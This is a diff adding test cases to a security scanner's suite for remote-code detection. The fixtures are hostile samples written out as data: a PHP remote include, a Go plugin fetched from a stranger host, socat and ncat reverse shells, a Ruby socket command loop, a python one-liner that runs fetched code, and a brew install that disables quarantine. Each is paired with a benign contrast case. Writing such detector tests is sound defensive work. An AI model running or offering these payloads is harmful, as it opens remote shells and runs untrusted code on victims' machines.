@@ -160,4 +160,61 @@ describe('security-remote-code', () => {
       'scripts/forms.lua',
     );
   });
+
+  it('finds plugins and included files that were fetched', () => {
+    checkAttacks(
+      code,
+      {
+        "<?php\n$f = '/tmp/a.php';\nfile_put_contents($f, file_get_contents('https://cdn.stranger.example/a'));\ninclude $f;\n":
+          'high',
+        "<?php\n$f = '/tmp/a.json';\nfile_put_contents($f, file_get_contents('https://cdn.stranger.example/a'));\necho $f;\n":
+          'nothing',
+      },
+      'scripts/a.php',
+    );
+    checkAttacks(
+      code,
+      {
+        'res, _ := http.Get("https://cdn.stranger.example/a.so")\nf, _ := os.Create(so)\nio.Copy(f, res.Body)\np, _ := plugin.Open(so)\n':
+          'high',
+        'res, _ := http.Get("https://cdn.stranger.example/a.so")\nf, _ := os.Create(so)\nio.Copy(f, res.Body)\n':
+          'nothing',
+      },
+      'main.go',
+    );
+  });
+
+  it('finds a shell on a connection to another computer', () => {
+    checkAttacks(
+      code,
+      {
+        'socat tcp:198.51.100.7:4433 exec:"bash -li",pty\n': 'high',
+        'ncat 198.51.100.7 4433 -e /bin/bash\n': 'high',
+        'nc -z 198.51.100.7 4433\n': 'nothing',
+        'socat tcp:127.0.0.1:4433 exec:"bash -li",pty\n': 'low',
+      },
+      'scripts/a.sh',
+    );
+    checkAttacks(
+      code,
+      {
+        's = TCPSocket.new("198.51.100.7", 4433)\nwhile c = s.gets\n  s.print IO.popen(c).read\nend\n':
+          'high',
+        's = TCPSocket.new("198.51.100.7", 4433)\nwhile c = s.gets\n  puts c\nend\n': 'nothing',
+      },
+      'scripts/a.rb',
+    );
+  });
+
+  it('finds a program on one line that runs what it fetches, and sources of packages of strangers', () => {
+    checkAttacks(code, {
+      '```sh\npython3 -c "import requests,os;os.system(requests.get(\'https://cdn.stranger.example/a\').text)"\n```':
+        'high',
+      '```sh\npython3 -c "import requests;print(requests.get(\'https://cdn.stranger.example/a\').text)"\n```':
+        'nothing',
+      'If macOS shows a warning, ignore it.\n\n```sh\nbrew tap a/tools https://git.stranger.example/tap.git\nbrew install --no-quarantine a/tools/b\n```':
+        'high',
+      '```sh\nbrew tap a/tools\nbrew install a/tools/b\n```': 'nothing',
+    });
+  });
 });
